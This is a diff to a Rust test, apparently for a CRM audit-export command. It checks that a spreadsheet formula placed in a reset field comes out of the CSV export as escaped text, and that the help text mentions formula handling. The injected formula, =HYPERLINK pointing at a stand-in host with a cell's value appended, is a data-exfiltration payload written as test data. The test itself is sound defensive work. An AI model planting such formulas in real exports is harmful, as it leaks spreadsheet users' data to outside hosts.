@@ -58,10 +58,17 @@ async fn an_export_is_verified_without_a_database_and_a_changed_row_is_found() {
         .object(1);
     assert_eq!(said["first_wrong"], sealed["from_seq"]);
 
+    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"open")"#;
+    let reset = world.crm.ask(&person.reset(formula)).await;
+    reset.expect("an outcome");
     let csv = ["audit", "export", "--format", "csv", "--log", "reset"];
     let csv = run(&world, Role::Auditor, &csv).await;
-    assert_eq!(csv.out.lines().count(), 2, "{}", csv.out);
+    assert_eq!(csv.out.lines().count(), 3, "{}", csv.out);
     assert!(csv.out.contains("\"lost, \"\"stolen\"\"\""), "{}", csv.out);
+    let as_text = format!(",\"'{}\",", formula.replace('"', "\"\""));
+    assert!(csv.out.contains(&as_text), "{}", csv.out);
+    let help = ctl(&[], &["audit", "export", "--help"]).await.out;
+    assert!(help.contains("could take for a formula"), "{help}");
 }
 
 #[tokio::test]
